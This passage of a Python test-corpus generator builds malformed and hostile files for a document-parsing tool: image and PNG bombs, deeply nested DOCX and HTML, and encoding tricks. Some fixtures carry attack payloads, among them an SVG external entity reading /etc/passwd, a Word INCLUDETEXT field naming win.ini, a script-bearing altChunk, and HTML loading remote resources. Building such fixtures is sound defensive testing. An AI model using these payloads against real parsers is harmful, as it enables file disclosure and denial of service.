        + paragraphs_xml(["deep"])
        + ("</w:sdtContent></w:sdt>" * 20_000)
    )
    c.add("docx-deep-wrappers.docx", "docx", "content controls nested 20,000 deep",
          either("corrupt_file"), docx(document_xml(deep)))  # fmt: skip
    deep_tables = (
        body
        + "<w:tbl><w:tr><w:tc>" * 5000
        + paragraphs_xml(["cell"])
        + ("</w:tc></w:tr></w:tbl>" * 5000)
    )
    c.add("docx-deep-tables.docx", "docx", "tables nested 5,000 deep", either("corrupt_file"),
          docx(document_xml(deep_tables)))  # fmt: skip
    c.add("docx-not-xml.docx", "docx", "document.xml is random bytes", error("corrupt_file"),
          docx(bytes(c.rng.getrandbits(8) for _ in range(4096))))  # fmt: skip
    c.add("docx-utf16-xml.docx", "docx", "document.xml declared UTF-8 but written in UTF-16",
          either("corrupt_file"), docx(document_xml(body).decode().encode("utf-16")))  # fmt: skip


def add_docx_parts(c: Corpus, body: str, good: bytes) -> None:
    document = document_xml(body)
    c.add("docx-no-content-types.docx", "docx", "no [Content_Types].xml",
          error(["corrupt_file", "unsupported_format"]), make_zip({"_rels/.rels": RELS, "word/document.xml": document}))  # fmt: skip
    c.add("docx-no-document.docx", "docx", "no word/document.xml",
          error(["unsupported_format", "corrupt_file"]),
          make_zip({"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": RELS}))  # fmt: skip
    c.add("docx-no-rels.docx", "docx", "no _rels/.rels", either("corrupt_file"),
          make_zip({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": document}))  # fmt: skip
    c.add("docx-empty-body.docx", "docx", "a body with no text", error("empty_input"),
          docx(document_xml("")))  # fmt: skip
    c.add("docx-no-body.docx", "docx", "a document element without a body",
          error(["corrupt_file", "empty_input"]), docx(f"<w:document {W_NS}/>".encode()))  # fmt: skip
    c.add("docx-really-pdf.docx", "docx", "a PDF named .docx (read as the PDF it is)", report(),
          contract_pdf(1))  # fmt: skip
    c.add("docx-truncated.docx", "docx", "the control DOCX cut in half",
          error(["corrupt_file", "unsupported_format"]), good[: len(good) // 2])  # fmt: skip
    ct = CONTENT_TYPES.replace(b"document.main+xml", b"document.macroEnabled.main+xml")
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(c.rng.getrandbits(8) for _ in range(4000))
    c.add("docx-macros.docm", "docx", "a .docm with vbaProject.bin (macros are never run)",
          report(), make_zip({"[Content_Types].xml": ct, "_rels/.rels": RELS,
                              "word/document.xml": document, "word/vbaProject.bin": vba}))  # fmt: skip
    c.add("docx-encrypted-ole.docx", "docx", "an OLE2 container (how Word stores encrypted "
          "DOCX)", error("unsupported_format"), vba)  # fmt: skip
    c.add("docx-stored-huge-name.docx", "docx", "a member with a 60,000-character name",
          report(), docx(document, **{"x" * 60_000: b"x"}))  # fmt: skip
    altchunk = docx(
        document, word__afchunk_mht=b"MIME-Version: 1.0\r\n\r\n<script>alert(1)</script>"
    )
    c.add("docx-altchunk.docx", "docx", "an altChunk HTML part with a script", report(), altchunk)
    ext = document_xml(body).replace(b"<w:body>", b'<w:body><w:p><w:r><w:fldSimple w:instr="INCLUDETEXT '
                                     b'&quot;C:\\\\Windows\\\\win.ini&quot;"/></w:r></w:p>')  # fmt: skip
    c.add("docx-includetext-field.docx", "docx", "an INCLUDETEXT field naming a local file",
          report(), docx(ext))  # fmt: skip


# --------------------------------------------------------------------------- images


def text_picture(mode: str = "L", size: tuple[int, int] = (900, 220)) -> Any:
    from PIL import Image, ImageDraw, ImageFont

    image = Image.new("L", size, 245)
    draw = ImageDraw.Draw(image)
    try:
        font: Any = ImageFont.truetype("DejaVuSans.ttf", 30)
    except OSError:
        font = ImageFont.load_default(size=30)
    for row, line in enumerate(("MILITARY SERVICE CONTRACT", "The employer keeps the passport")):
        draw.text((30, 40 + row * 70), line, font=font, fill=20)
    return image if mode == "L" else image.convert(mode)


def saved(image: Any, fmt: str, **options: Any) -> bytes:
    out = io.BytesIO()
    image.save(out, format=fmt, **options)
    return out.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_header(width: int, height: int, depth: int = 8, color: int = 0) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, depth, color, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr)


def png_bomb(width: int, height: int) -> bytes:
    """A PNG of ``width`` x ``height`` grey pixels whose IDAT holds only the first rows
    (a few KB): a decoder that trusts it allocates the whole bitmap."""
    rows = zlib.compress(bytes(width + 1) * 4, 9)
    return png_header(width, height) + png_chunk(b"IDAT", rows) + png_chunk(b"IEND", b"")


def gif_frames(width: int, height: int, frames: int) -> bytes:
    """An animated GIF with ``frames`` 1x1 frames (a few bytes each)."""
    head = (
        b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\xff\xff\xff\x00\x00\x00"
    )
    loop = b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
    frame = b"\x21\xf9\x04\x00\x01\x00\x00\x00" + b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0)
    frame += b"\x02\x02\x44\x01\x00"
    return head + loop + frame * frames + b"\x3b"


def jpeg_with_size(width: int, height: int) -> bytes:
    from PIL import Image

    data = bytearray(saved(Image.new("L", (16, 16), 200), "JPEG"))
    at = data.find(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def exif_orientation(image: Any, value: int) -> bytes:
    from PIL import Image

    exif = Image.Exif()
    exif[0x0112] = value
    return saved(image, "JPEG", exif=exif.tobytes())


def tiff_frames(count: int) -> bytes:
    from PIL import Image

    frames = [Image.new("L", (16, 16), 255) for _ in range(count)]
    return saved(frames[0], "TIFF", save_all=True, append_images=frames[1:])


def webp_frames(count: int) -> bytes:
    from PIL import Image

    frames = [Image.new("L", (16, 16), (i * 7) % 256) for i in range(count)]
    return saved(frames[0], "WEBP", save_all=True, append_images=frames[1:], duration=10,
                 lossless=True, minimize_size=False)  # fmt: skip


def add_images(c: Corpus) -> None:
    from PIL import Image

    picture = text_picture()
    jpeg = saved(picture, "JPEG", quality=85)
    c.add(
        "img-control.jpg", "image", "a small photo of two lines of text (control)", report(), jpeg
    )
    for name, (w, h) in {"60000x60000": (60_000, 60_000), "100000x1": (100_000, 1),
                         "1x4000000": (1, 4_000_000), "20000x20000": (20_000, 20_000)}.items():  # fmt: skip
        too_big = w * h > 120_000_000
        c.add(f"img-bomb-png-{name}.png", "image", f"PNG header declaring {w} x {h} pixels",
              error("image_too_large" if too_big else ["no_text_found", "corrupt_file", "needs_ocr"]),
              png_bomb(w, h))  # fmt: skip
    c.add(
        "img-bomb-png-16bit-rgba.png",
        "image",
        "PNG declaring 30000 x 30000 16-bit RGBA",
        error("image_too_large"),
        png_header(30_000, 30_000, 16, 6) + png_chunk(b"IEND", b""),
    )
    c.add("img-bomb-gif.gif", "image", "GIF declaring 65535 x 65535", error("image_too_large"),
          gif_frames(65_535, 65_535, 1))  # fmt: skip
    c.add("img-bomb-jpeg.jpg", "image", "JPEG declaring 65500 x 65500", error("image_too_large"),
          jpeg_with_size(65_500, 65_500))  # fmt: skip
    c.add(
        "img-bomb-tiff.tif",
        "image",
        "TIFF declaring 100000 x 100000",
        error("image_too_large"),
        tiff_huge(),
    )
    add_truncated_images(c, jpeg, picture)
    c.add(
        "img-1x1.png", "image", "a 1 x 1 PNG", error(NO_TEXT), saved(Image.new("L", (1, 1)), "PNG")
    )
    c.add(
        "img-7x500.png",
        "image",
        "a 7 x 500 sliver",
        error(NO_TEXT),
        saved(Image.new("L", (7, 500)), "PNG"),
    )
    c.add("img-all-black.png", "image", "400 x 300, all black", error(NO_TEXT),
          saved(Image.new("L", (400, 300), 0), "PNG"))  # fmt: skip
    c.add("img-all-white.jpg", "image", "400 x 300, all white", error(NO_TEXT),
          saved(Image.new("L", (400, 300), 255), "JPEG"))  # fmt: skip
    c.add("img-noise.png", "image", "300 x 300 of random grey noise", error(NO_TEXT),
          saved(Image.frombytes("L", (300, 300), bytes(c.rng.getrandbits(8) for _ in range(90_000))), "PNG"))  # fmt: skip
    c.add("img-gif-10000-frames.gif", "image", "an animated GIF of 10,000 frames (only the "
          "first is read)", error(NO_TEXT), gif_frames(64, 64, 10_000))  # fmt: skip
    c.add("img-webp-10000-frames.webp", "image", "an animated WebP of 10,000 frames",
          error(NO_TEXT), webp_frames(10_000))  # fmt: skip
    c.add("img-tiff-2000-frames.tif", "image", "a TIFF of 2,000 blank 16 x 16 pages",
          error(NO_TEXT), tiff_frames(2000))  # fmt: skip
    c.add(
        "img-cmyk.jpg",
        "image",
        "a CMYK JPEG of text",
        report(),
        saved(picture.convert("CMYK"), "JPEG"),
    )
    c.add(
        "img-cmyk.tif",
        "image",
        "a CMYK TIFF of text",
        report(),
        saved(picture.convert("CMYK"), "TIFF"),
    )
    c.add("img-16bit.tif", "image", "a 16-bit grey TIFF of text", report(),
          saved(picture.convert("I;16"), "TIFF"))  # fmt: skip
    deep = picture.point(lambda v: v)  # 8-bit values spread over the 16-bit range
    wide = Image.frombytes(
        "I;16", deep.size, b"".join(struct.pack("<H", v * 257) for v in deep.tobytes())
    )
    c.add("img-16bit-full-range.tif", "image", "a 16-bit TIFF using the full range", report(),
          saved(wide, "TIFF"))  # fmt: skip
    c.add("img-16bit.png", "image", "a 16-bit grey PNG of text", report(),
          saved(picture.convert("I;16"), "PNG"))  # fmt: skip
    for value in (0, 9, 65535):
        c.add(f"img-exif-orientation-{value}.jpg", "image", f"EXIF orientation {value}",
              report(), exif_orientation(picture, value))  # fmt: skip
    c.add("img-exif-garbage.jpg", "image", "an APP1 EXIF segment of random bytes", report(),
          jpeg[:2] + b"\xff\xe1\x01\x00Exif\x00\x00" + bytes(c.rng.getrandbits(8) for _ in range(248)) + jpeg[2:])  # fmt: skip
    c.add("img-png-really-text.png", "image", "a text file named .png (read as text)",
          report(), CONTRACT_TEXT.encode())  # fmt: skip
    c.add("img-zero-length.jpg", "image", "zero bytes", error("empty_input"), b"")
    c.add("img-png-signature-only.png", "image", "the PNG signature alone",
          error("corrupt_file"), b"\x89PNG\r\n\x1a\n")  # fmt: skip
    c.add("img-jpeg-soi-only.jpg", "image", "JPEG start marker alone", error("corrupt_file"),
          b"\xff\xd8\xff\xe0")  # fmt: skip
    c.add("img-bmp-bomb.bmp", "image", "BMP header declaring 50000 x 50000",
          error("image_too_large"), bmp_header(50_000, 50_000))  # fmt: skip
    c.add("img-heic-brand-junk.heic", "image", "an ftyp/heic header then junk",
          error("corrupt_file"), b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(200))  # fmt: skip
    c.add("img-gif-no-frames.gif", "image", "a GIF with a screen and no image",
          error(["corrupt_file", *NO_TEXT]), gif_frames(64, 64, 0))  # fmt: skip


def tiff_huge() -> bytes:
    """A little-endian TIFF whose single strip claims 100000 x 100000 pixels."""
    entries = [(256, 4, 1, 100_000), (257, 4, 1, 100_000), (258, 3, 1, 8), (259, 3, 1, 1),
               (262, 3, 1, 1), (273, 4, 1, 8), (277, 3, 1, 1), (278, 4, 1, 100_000),
               (279, 4, 1, 16)]  # fmt: skip
    ifd_at = 8 + 16
    head = b"II*\x00" + struct.pack("<I", ifd_at) + bytes(16)
    ifd = struct.pack("<H", len(entries))
    for tag, kind, count, value in entries:
        ifd += struct.pack("<HHII", tag, kind, count, value)
    return head + ifd + struct.pack("<I", 0)


def bmp_header(width: int, height: int) -> bytes:
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 2835, 2835, 0, 0)
    return b"BM" + struct.pack("<IHHI", 54 + 64, 0, 0, 54) + info + bytes(64)


def add_truncated_images(c: Corpus, jpeg: bytes, picture: Any) -> None:
    for fraction in (0.05, 0.3, 0.6, 0.9):
        cut = int(len(jpeg) * fraction)
        c.add(f"img-truncated-jpeg-{int(fraction * 100):02d}.jpg", "image",
              f"the control JPEG cut after {cut} of {len(jpeg)} bytes",
              either("corrupt_file", *NO_TEXT), jpeg[:cut])  # fmt: skip
    png = saved(picture, "PNG")
    for fraction in (0.1, 0.5):
        cut = int(len(png) * fraction)
        c.add(f"img-truncated-png-{int(fraction * 100):02d}.png", "image",
              f"a PNG of text cut after {cut} of {len(png)} bytes",
              either("corrupt_file", *NO_TEXT), png[:cut])  # fmt: skip


# ----------------------------------------------------------------------------- text


def repeated(unit: bytes, size: int, tail: bytes = b"\n") -> Callable[[Path], None]:
    """A file of ``unit`` repeated to ``size`` bytes, written in chunks."""

    def write(path: Path) -> None:
        block = unit * max(1, (4 * MIB) // len(unit))
        with open(path, "wb") as handle:
            left = size
            handle.write(CONTRACT_TEXT.encode())
            left -= len(CONTRACT_TEXT)
            while left > 0:
                piece = block[:left]
                handle.write(piece)
                left -= len(piece)
            handle.write(tail)

    return write


def sparse(size: int) -> Callable[[Path], None]:
    """A file of ``size`` bytes that takes no room on disk: text, then a hole."""

    def write(path: Path) -> None:
        with open(path, "wb") as handle:
            handle.write(CONTRACT_TEXT.encode())
            handle.truncate(size)

    return write


def add_text(c: Corpus) -> None:
    c.add("txt-control.txt", "text", "a short English contract (control)", report(),
          CONTRACT_TEXT.encode())  # fmt: skip
    c.add("txt-60mb-sparse.txt", "text", "60 MB (over the 50 MiB byte cap), sparse on disk",
          error("input_too_large"), sparse(60 * MIB))  # fmt: skip
    neutral = "работник обязан выполнять поручения работодателя по месту работы ".encode()
    c.add("txt-10mb-one-line.txt", "text", "a 10 MB single line (under the byte cap: read up "
          "to the character cap)", report("text_not_read"), repeated(neutral, 10 * MIB, b""))  # fmt: skip
    c.add("txt-2mb-lines.txt", "text", "2 MB of ordinary lines", report("text_not_read"),
          repeated(RU_TEXT.encode(), 2 * MIB))  # fmt: skip
    if c.big:
        c.add("txt-200mb-one-line.txt", "text", "a 200 MB single line", error("input_too_large"),
              repeated(neutral, 200 * MIB, b""), big=True)  # fmt: skip
    c.add("txt-nul-bytes.txt", "text", "contract text with NULs between the lines", report(),
          CONTRACT_TEXT.replace("\n", "\n\x00\x00").encode())  # fmt: skip
    c.add("txt-nul-interleaved.txt", "text", "every other byte NUL (UTF-16 without a mark)",
          report(), CONTRACT_TEXT.encode("utf-16-le"))  # fmt: skip
    c.add("txt-mostly-nul.txt", "text", "a few letters in 100 KB of NULs",
          error(["empty_input", "unsupported_format"]), b"\x00" * 50_000 + b"abc" + b"\x00" * 50_000)  # fmt: skip
    mixed = (RU_TEXT.encode("utf-8") + RU_TEXT.encode("cp1251") + RU_TEXT.encode("koi8_r")) * 3
    c.add("txt-mixed-encodings.txt", "text", "UTF-8, windows-1251 and KOI8-R parts in one file",
          report(), mixed)  # fmt: skip
    c.add("txt-invalid-utf8.txt", "text", "UTF-8 with stray continuation bytes and overlongs",
          report(), RU_TEXT.encode() + b"\x80\xbf\xc0\xaf\xed\xa0\x80\xf8\x88\x80\x80\x80" + RU_TEXT.encode())  # fmt: skip
    c.add("txt-lone-surrogates.txt", "text", "CESU-style surrogates in UTF-8", report(),
          CONTRACT_TEXT.encode() + b"\xed\xa0\xbd\xed\xb8\x80" * 100)  # fmt: skip
    c.add("txt-utf16-odd-length.txt", "text", "UTF-16 with a BOM and an odd last byte", report(),
          b"\xff\xfe" + RU_TEXT.encode("utf-16-le") + b"\x41")  # fmt: skip
    c.add("txt-utf32.txt", "text", "UTF-32 with a BOM", report(), RU_TEXT.encode("utf-32"))
    c.add("txt-bom-only.txt", "text", "a UTF-8 byte-order mark and nothing else",
          error("empty_input"), b"\xef\xbb\xbf")  # fmt: skip
    c.add("txt-whitespace-only.txt", "text", "100 KB of spaces, tabs and line breaks",
          error("empty_input"), b" \t\r\n" * 25_000)  # fmt: skip
    c.add("txt-unicode-spaces-only.txt", "text", "only Unicode spaces and zero-width characters",
          error(["empty_input"]), ("\u2003\u200b\u3000\ufeff\u00a0" * 2000).encode())  # fmt: skip
    bidi = "\u202e" + RU_TEXT + "\u2066\u2067\u2068" * 300 + "\u202d" + CONTRACT_TEXT + "\u202c"
    c.add("txt-bidi-overrides.txt", "text", "right-to-left overrides and isolates around the "
          "text", report(), bidi.encode())  # fmt: skip
    c.add("txt-bidi-unbalanced.txt", "text", "10,000 unclosed RLO characters", report(),
          ("\u202e" * 10_000 + CONTRACT_TEXT).encode())  # fmt: skip
    zalgo = RU_TEXT + "a" + "\u0301" * 100_000 + "\n" + RU_TEXT
    c.add("txt-100k-combining.txt", "text", "100,000 combining marks on one letter", report(),
          zalgo.encode())  # fmt: skip
    combining_everywhere = "".join(ch + "\u0336\u0335" for ch in RU_TEXT * 20)
    c.add("txt-strikethrough-combining.txt", "text", "every letter followed by 2 marks",
          report(), combining_everywhere.encode())  # fmt: skip
    zw = RU_TEXT + "\u200b" * 1_000_000 + RU_TEXT
    c.add("txt-1m-zero-width.txt", "text", "1,000,000 zero-width spaces in the text",
          report("text_not_read"), zw.encode())  # fmt: skip
    interleaved = "\u200b".join(RU_TEXT * 40)
    c.add("txt-zero-width-interleaved.txt", "text", "a zero-width space between every letter",
          report(), interleaved.encode())  # fmt: skip
    c.add("txt-long-word.txt", "text", "one 3 MB word", report("text_not_read"),
          (RU_TEXT + "а" * 1_500_000 + "\n" + RU_TEXT).encode())  # fmt: skip
    c.add("txt-many-empty-lines.txt", "text", "text after 2,000,000 empty lines",
          report("text_not_read"), b"\n" * 2_000_000 + RU_TEXT.encode())  # fmt: skip
    c.add("txt-blank-lines-between.txt", "text", "50,000 blank lines between two paragraphs",
          report(), (RU_TEXT + "\n" * 50_000 + RU_TEXT).encode())  # fmt: skip
    c.add("txt-cr-only.txt", "text", "old-Mac line breaks (CR only), 500,000 of them",
          report("text_not_read"), RU_TEXT.encode() + b"\r" * 500_000)  # fmt: skip
    c.add("txt-binary-noise.txt", "text", "64 KB of random bytes", error("unsupported_format"),
          bytes(c.rng.getrandbits(8) for _ in range(65_536)))  # fmt: skip
    c.add("txt-emoji-flood.txt", "text", "200,000 emoji and ZWJ sequences", report("text_not_read"),
          (RU_TEXT + "👨\u200d👩\u200d👧\u200d👦" * 50_000).encode())  # fmt: skip
    c.add("txt-homoglyphs.txt", "text", "Latin look-alikes inside Russian words", report(),
          RU_TEXT.replace("о", "o").replace("а", "a").replace("р", "p").encode())  # fmt: skip
    c.add("txt-control-chars.txt", "text", "C0/C1 controls sprinkled in (under 10 %)", report(),
          "".join(ch + ("\x1b" if i % 20 == 0 else "") for i, ch in enumerate(RU_TEXT * 5)).encode())  # fmt: skip
    c.add("txt-looks-like-rtf.txt", "text", "an RTF header", error("unsupported_format"),
          b"{\\rtf1\\ansi " + CONTRACT_TEXT.encode() + b"}")  # fmt: skip
    c.add("txt-gzip.txt", "text", "gzip data named .txt", error("unsupported_format"),
          __import__("gzip").compress(CONTRACT_TEXT.encode()))  # fmt: skip
    add_html(c)


def add_html(c: Corpus) -> None:
    head = "<!DOCTYPE html><html><head><title>ad</title></head><body>"
    text = "".join(f"<p>{line}</p>" for line in CONTRACT_LINES)
    c.add("html-control.html", "text", "a small HTML page (control)", report(),
          (head + text + "</body></html>").encode())  # fmt: skip
    deep = head + "<div>" * 100_000 + text + "</div>" * 100_000 + "</body></html>"
    c.add("html-deep-100k.html", "text", "divs nested 100,000 deep", report(), deep.encode())
    unclosed = head + "<span><b><i>" * 50_000 + text
    c.add(
        "html-unclosed-150k.html", "text", "150,000 tags never closed", report(), unclosed.encode()
    )
    scripts = (head + "<script>while(true){}</script><img src='http://203.0.113.5/x.png'>"
               "<iframe src='https://example.invalid/'></iframe><link rel=stylesheet href="
               "'http://203.0.113.5/s.css'><style>@import url(http://203.0.113.5/a.css);</style>"
               "<object data='http://203.0.113.5/o.swf'></object>" + text + "</body></html>")  # fmt: skip
    c.add("html-scripts-remote.html", "text", "scripts, remote images, frames and styles "
          "(nothing fetched, nothing run)", report(), scripts.encode())  # fmt: skip
    c.add("html-unclosed-script.html", "text", "a <script> never closed, text after it",
          either("empty_input"), (head + text + "<script>" + "var a=1;" * 1000).encode())  # fmt: skip
    c.add("html-comment-unclosed.html", "text", "a comment that never ends",
          either("empty_input"), (head + text + "<!--" + "x" * 100_000).encode())  # fmt: skip
    c.add("html-entities.html", "text", "100,000 character references", report(),
          (head + text + "&#x41;&amp;&#1072;&nbsp;&#0;&#xFFFFFFFF;&#55296;" * 15_000).encode())  # fmt: skip
    c.add("html-attrs-huge.html", "text", "a tag with a 5 MB attribute", report(),
          (head + "<p title='" + "x" * 5 * MIB + "'>" + text + "</body></html>").encode())  # fmt: skip
    c.add("html-meta-charset-lies.html", "text", "meta charset=base64 (a non-text codec)",
          report(), ("<html><head><meta charset='base64'></head><body>" + text).encode("cp1251"))  # fmt: skip
    c.add("html-svg-xxe.html", "text", "inline SVG with an external entity", report(),
          (head + '<svg><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><text>&x;</text></svg>'
           + text + "</body></html>").encode())  # fmt: skip
    c.add("html-only-markup.html", "text", "tags and no visible text", error("empty_input"),
          (head + "<div></div>" * 1000 + "</body></html>").encode())  # fmt: skip


# ------------------------------------------------------------------------------ chat


def telegram_message(index: int, text: Any) -> dict[str, Any]:
    return {"id": index, "type": "message", "date": "2024-03-12T14:02:11",
            "date_unixtime": str(1710252131 + index), "from": "Recruiter", "text": text}  # fmt: skip


def telegram_export(messages: list[Any], kind: str = "public_channel") -> dict[str, Any]:
    return {"name": "Jobs", "type": kind, "id": 42, "messages": messages}


def dumps(value: Any) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode()


def streamed_telegram(size: int) -> Callable[[Path], None]:
    """A channel export of about ``size`` bytes, written message by message."""

    def write(path: Path) -> None:
        with open(path, "wb") as handle:
            handle.write(b'{"name": "Jobs", "type": "public_channel", "id": 42, "messages": [')
            written, index = 0, 0
            while written < size:
                text = RU_TEXT if index % 50 else RU_TEXT * 20
                line = (b", " if index else b"") + dumps(telegram_message(index, text))
                handle.write(line)
                written += len(line)
                index += 1
            handle.write(b"]}")

    return write


def add_chats(c: Corpus) -> None:
    good = telegram_export([telegram_message(i, RU_TEXT) for i in range(5)])
    rows: dict[str, tuple[str, dict[str, Any], bytes]] = {
        "control": ("a small channel export (control)", {"outcome": "records"}, dumps(good)),
        "truncated": ("cut in the middle of a message", {"outcome": "problem"}, dumps(good)[:300]),
        "truncated-header": ("cut right after the chat's name (not taken for an export: read "
                             "as one file)", {"outcome": "records"},
                             b'{"name": "Jo'),
        "messages-object": ("messages is an object, not a list", {"outcome": "records"},
                            dumps({**good, "messages": {"a": 1}})),
        "messages-string": ("messages is a string", {"outcome": "records"},
                            dumps({**good, "messages": "x" * 1000})),
        "message-wrong-types": ("messages of wrong types (numbers, lists, null)",
                                {"outcome": "records"},
                                dumps(telegram_export([1, None, [1, 2], "text", True,
                                                       telegram_message(9, RU_TEXT)]))),
        "text-wrong-types": ("text fields that are numbers, objects, null", {"outcome": "records"},
                             dumps(telegram_export([telegram_message(i, t) for i, t in enumerate(
                                 [5, None, {"text": 1}, 3.5, True, RU_TEXT])]))),
        "entities-wrong-shape": ("text entities of wrong shape", {"outcome": "records"},
                                 dumps(telegram_export([telegram_message(1, [
                                     1, None, ["nested", ["deeper"]], {"type": "bold"},
                                     {"text": ["x"]}, {"href": 5}, {"text": RU_TEXT, "href": {}}])]))),
        "dates-wrong": ("dates of wrong types and absurd values", {"outcome": "records"},
                        dumps(telegram_export([{**telegram_message(1, RU_TEXT), "date": [1],
                                                "date_unixtime": "99999999999999999999"},
                                               {**telegram_message(2, RU_TEXT), "date": "9999-99-99",
                                                "date_unixtime": -5}]))),
        "ids-wrong": ("chat id a list, message ids objects", {"outcome": "records"},
                      dumps({"name": ["x"], "type": {"a": 1}, "id": [1],
                             "messages": [{**telegram_message(1, RU_TEXT), "id": {"x": 1}}]})),
        "deep-nesting": ("a message nested 100,000 arrays deep", {"outcome": "problem"},
                         b'{"name": "x", "type": "public_channel", "messages": [' + b"[" * 100_000
                         + b"]" * 100_000 + b"]}"),
        "nan-infinity": ("NaN, Infinity and a 5,000-digit number (past Python's limit)",
                         {"outcome": "problem"},
                         b'{"name": "x", "type": "public_channel", "id": NaN, "messages": [{"id": '
                         b'Infinity, "type": "message", "text": "' + RU_TEXT.strip().encode()
                         + b'", "date_unixtime": 1e999}, {"id": ' + b"9" * 5000 + b', "text": "x"}]}'),
        "invalid-utf8": ("invalid UTF-8 inside strings", {"outcome": "records"},
                         dumps(good).replace("Паспорт".encode(), b"\xff\xfe\xc0", 3)),
        "bom-and-junk": ("a byte-order mark, then trailing junk", {"outcome": "records"},
                         b"\xef\xbb\xbf" + dumps(good) + b" garbage {]"),
        "huge-string": ("one message of 20 MB", {"outcome": "records"},
                        dumps(telegram_export([telegram_message(1, RU_TEXT * 110_000)]))),
        "unterminated-string": ("a string that never ends (5 MB)", {"outcome": "problem"},
                                b'{"name": "x", "type": "public_channel", "messages": [{"text": "'
                                + b"a" * 5 * MIB),
        "conversation-long": ("a personal chat of 20,000 messages (one record)",
                              {"outcome": "records"},
                              dumps(telegram_export([telegram_message(i, RU_TEXT) for i in range(20_000)],
                                                    "personal_chat"))),
        "account-export": ("a whole-account export with broken chat lists", {"outcome": "records"},
                           dumps({"about": "Here is the data you requested from Telegram",
                                  "chats": {"list": [1, "x", good, {"messages": 5}, None]},
                                  "left_chats": {"list": "nope"}})),
        "not-json": ("a .json file of random bytes (read as one file)", {"outcome": "records"},
                     bytes(c.rng.getrandbits(8) for _ in range(4096))),
        "empty": ("an empty .json file (read as one file)", {"outcome": "records"}, b""),
    }  # fmt: skip
    for name, (what, expect, data) in rows.items():
        c.add(f"chat-telegram-{name}.json", "chat", f"Telegram export: {what}", expect, data,
              command="batch")  # fmt: skip
    c.add("chat-telegram-50mb.json", "chat", "Telegram channel export of 50 MB, read as a "
          "stream", {"outcome": "records"}, streamed_telegram(50 * MIB), command="batch")  # fmt: skip
    if c.big:
        c.add("chat-telegram-2gb.json", "chat", "Telegram channel export of 2 GB",
              {"outcome": "records"}, streamed_telegram(2048 * MIB), command="batch", big=True)  # fmt: skip
    add_whatsapp(c)


def add_whatsapp(c: Corpus) -> None:
    line = "12.03.24, 14:02 - Recruiter: "
    rows = {
        "control": ("a short chat (control)", "".join(f"{line}{RU_TEXT}" for _ in range(3))),
        "absurd-dates": ("dates such as 99.99.9999, 00/00/00 and 31/02/2024",
                         "99.99.9999, 99:99 - A: x\n00/00/00, 00:00 - B: " + RU_TEXT
                         + "31/02/2024, 25:61 - A: " + RU_TEXT + "1/1/1, 1:00 PM - C: hi\n"),
        "huge-year": ("a year of 4 digits that overflows nothing, and a 9-digit hour",
                      "12/03/9999, 14:02 - A: " + RU_TEXT + "12/03/24, 999999999:02 - A: x\n"),
        "line-10mb": ("one message of 10 MB on one line", line + "работа " * (10 * MIB // 13) + "\n"),
        "many-senders": ("100,000 messages from 100,000 senders",
                         "".join(f"12.03.24, 14:02 - S{i}: {'x' if i % 100 else RU_TEXT}\n"
                                 for i in range(100_000))),
        "no-stamps-after-first": ("a stamp, then 1,000,000 lines without one",
                                  line + RU_TEXT + "продолжение\n" * 1_000_000),
        "colon-flood": ("a sender field of 10,000 colons", line.replace("Recruiter", ":" * 10_000)
                        + RU_TEXT + line + RU_TEXT),
        "bidi-marks": ("bidi marks before every stamp",
                       "".join(f"\u200e\u202b[12.03.24, 14:02:11] A: {RU_TEXT}" for _ in range(5))),
    }  # fmt: skip
    for name, (what, text) in rows.items():
        c.add(f"chat-whatsapp-{name}.txt", "chat", f"WhatsApp export: {what}",
              {"outcome": "records"}, text.encode(), command="batch")  # fmt: skip


# ------------------------------------------------------------------------------ main


def generate(out: Path, big: bool = False) -> Corpus:
    out.mkdir(parents=True, exist_ok=True)
    for stale in out.iterdir():
        if stale.is_file():
            stale.unlink()
    corpus = Corpus(out, big)
    for add in (add_pdfs, add_docx, add_images, add_text, add_chats):
        add(corpus)
    corpus.write_manifest()
    return corpus


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", type=Path, default=DEFAULT_OUT, help="folder to write into")
    parser.add_argument("--big", action="store_true", help="also the files of hundreds of MB")
    args = parser.parse_args(argv)
    corpus = generate(args.out, args.big)
    print(f"{len(corpus.rows)} files -> {args.out}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
